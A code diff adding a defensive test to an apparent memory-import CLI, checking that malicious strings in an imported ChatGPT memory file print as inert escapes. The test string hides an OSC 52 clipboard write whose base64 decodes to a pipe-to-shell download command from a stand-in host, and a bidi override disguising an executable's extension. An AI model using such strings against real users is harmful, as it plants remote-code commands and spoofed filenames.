@@ -105,3 +105,17 @@ def test_five_thousand_chatgpt_memories(tmp_path: Path) -> None:
     print(f"\nimport-from chatgpt, 5,000 memories: {took:.2f} s (process start and unlock included)")
     assert len(listed(env)) == 5000
     assert took < 120
+
+
+def test_a_skipped_memory_from_the_file_is_printed_inert(tmp_path: Path) -> None:
+    """The file is someone else's text: an OSC 52 clipboard write or a bidi override in a skipped
+    memory reaches the terminal as escapes, never as controls."""
+    env = vault_env(tmp_path)
+    evil = "tea\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 and \u202egnp.exe"
+    f = tmp_path / "memory.json"
+    f.write_text(json.dumps([evil, evil]))
+    r = run("import-from", "chatgpt", str(f), env=env)
+    assert r.returncode == 0, r.stderr
+    assert "\x1b" not in r.stderr and "\x07" not in r.stderr and "\u202e" not in r.stderr
+    assert r.stderr == "skipped item 2: repeated (item 1): tea\\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007 and " \
+                       "\\u202egnp.exe\n"
